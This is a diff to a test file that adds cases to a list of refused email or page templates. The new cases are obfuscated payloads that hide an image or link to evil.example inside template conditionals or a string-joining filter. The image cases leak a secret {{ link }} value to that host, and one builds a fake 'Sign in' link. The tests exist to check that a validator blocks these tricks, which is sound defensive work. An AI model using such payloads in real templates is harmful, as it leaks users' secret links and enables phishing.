@@ -55,6 +55,21 @@ const refused: [why: string, code: string, text: string][] = [
     '<img src="https://evil.example/p?{{ link }}">',
   ],
   ['loads from another host', 'foreign_content', '<img src="https://evil.example/p"> {{ link }}'],
+  [
+    'hides an image in conditions',
+    'secret_misplaced',
+    `<{% if link == 'z' %} {% endif %}img alt=">" src="https:/{% if link == 'z' %} {% endif %}/evil.example/? {{ link }} ">`,
+  ],
+  [
+    'hides another host in conditions',
+    'foreign_content',
+    `<img src="https://alpaca.example{% if link == 'z' %}/{% endif %}.evil.example/x.png"> {{ link }}`,
+  ],
+  [
+    'puts a link to another host together',
+    'foreign_link',
+    `<a href="{{ 'https://evil.' | append: 'example' }}">Sign in</a>`,
+  ],
   ['leads to another host', 'foreign_link', '<a href="https://evil.example">Sign in</a>'],
 ];
 
